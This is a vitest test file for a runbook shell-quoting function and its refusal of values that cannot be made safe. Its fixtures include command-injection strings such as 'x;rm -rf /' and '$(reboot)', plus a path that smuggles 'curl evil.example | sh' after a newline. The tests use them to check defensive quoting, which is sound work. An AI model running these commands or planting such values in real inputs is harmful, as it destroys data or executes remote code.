/**
 * The one quoting function for runbook commands (common/runbook/shell-quote.ts) and the refusal of values
 * it cannot make safe. Quoting is checked against a real POSIX shell: what sh receives is the value.
 */
import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { evaluateRules } from '../../../common/alerts/evaluate-rules.js';
import { buildRunbook } from '../../../common/runbook/runbook-commands.js';
import { shellQuote, unsafeValueReason } from '../../../common/runbook/shell-quote.js';
import { hasUnsafeCharacters } from '../../../common/text/inert-text.js';
import { thresholdsSchema } from '../../../preload/ipc-contract.js';
import { HOSTILE, hostileSnapshot } from '../../fixtures/hostile-snapshot.js';
import { FIXED_NOW, makeSnapshot, makeStatus, unit, VM_HOST } from '../../fixtures/snapshot-factory.js';

/** What `sh -c 'printf %s <quoted>'` prints: the argument as the shell passed it on. */
const throughShell = (quoted: string) =>
  execFileSync('sh', ['-c', `printf %s ${quoted}`], { encoding: 'utf8' });

describe('shellQuote', () => {
  it.each([
    'plain-word',
    '/home/uma/repos/my backup',
    "it's",
    'a$(reboot)b',
    '`id`',
    'x;rm -rf /',
    'semi"colon',
    'back\\slash',
    '*glob?',
    '~root',
    '--flag',
    '',
    'uma-hermes\\x2ddashboard',
  ])('hands %j to the shell unchanged', (value) => {
    expect(throughShell(shellQuote(value))).toBe(value);
  });

  it('leaves plainly safe words bare, as the runbook writes them', () => {
    expect(shellQuote('/root/repos/bytelyst_hostinger_hermes_vm')).toBe(
      '/root/repos/bytelyst_hostinger_hermes_vm',
    );
    expect(shellQuote('hermes-gateway')).toBe('hermes-gateway');
    expect(shellQuote('uma-hermes\\x2ddashboard')).toBe("'uma-hermes\\x2ddashboard'");
  });
});

describe('values that cannot be quoted safely are refused, with a reason', () => {
  it('says what is wrong, shows the value inert, and never holds it raw', () => {
    const reason = unsafeValueReason('the backup repo path', 'path', HOSTILE.repoPath)!;
    expect(reason).toContain('"/home/uma/repos/backup\\x0Acurl evil.example | sh"');
    expect(reason).toMatch(/control or bidi characters/);
    expect(hasUnsafeCharacters(reason)).toBe(false);
    expect(unsafeValueReason('the gateway unit name', 'unit', 'a b.service')).toMatch(
      /not a name systemd accepts/,
    );
    expect(unsafeValueReason('x', 'path', '/fine/path')).toBeNull();
    expect(unsafeValueReason('x', 'path', `/${'a'.repeat(2000)}`)).toMatch(/2,001 characters long/);
  });

  it('refuses every command built on a hostile value, and shows none of them', () => {
    const plan = buildRunbook(makeStatus(hostileSnapshot(), { id: 'bheem' }), VM_HOST);
    const refused = new Map(plan.refused.map((r) => [r.id, r]));
    for (const id of [
      'gateway-status',
      'gateway-journal',
      'gateway-restart',
      'backup-repo-status',
      'containers-status',
    ])
      expect(refused.has(id)).toBe(true);
    for (const step of ['clone', 'secret-scan', 'verify-present', 'verify-absent', 'cleanup'])
      expect(refused.get(`restore-drill-${step}`)?.reason).toMatch(/backup repo path/);
    expect(refused.get('gateway-restart')).toMatchObject({ group: 'gateway', changesVm: true });
    for (const c of plan.commands) expect(hasUnsafeCharacters(c.command)).toBe(false);
    expect(plan.commands.some((c) => refused.has(c.id))).toBe(false);
    // Unaffected commands are still offered.
    expect(plan.commands.map((c) => c.id)).toEqual(
      expect.arrayContaining(['dashboard-status', 'hermes-status']),
    );
  });

  it('carries the refusals on the warnings that would have listed them', () => {
    const warnings = evaluateRules({
      instances: [makeStatus(hostileSnapshot(), { id: 'bheem' })],
      thresholds: thresholdsSchema.parse({}),
      now: FIXED_NOW,
      hosts: [VM_HOST],
    });
    const drill = warnings.find((w) => w.check === 'recovery.restore-drill-old')!;
    expect(drill.commands).toEqual([]);
    expect(drill.refusedCommands?.map((c) => c.id)).toEqual([
      'restore-drill-clone',
      'restore-drill-secret-scan',
      'restore-drill-verify-present',
      'restore-drill-verify-absent',
      'restore-drill-cleanup',
    ]);
  });

  it('quotes a systemd-escaped unit name instead of leaving the backslash to the shell', () => {
    const snap = makeSnapshot('vijay', { systemd: { units: [unit('hermes\\x2dgw.service', 'gateway')] } });
    const cmd = buildRunbook(makeStatus(snap), VM_HOST).commands.find((c) => c.id === 'gateway-status')!;
    expect(cmd.command).toBe("systemctl status 'hermes\\x2dgw' --no-pager");
  });
});
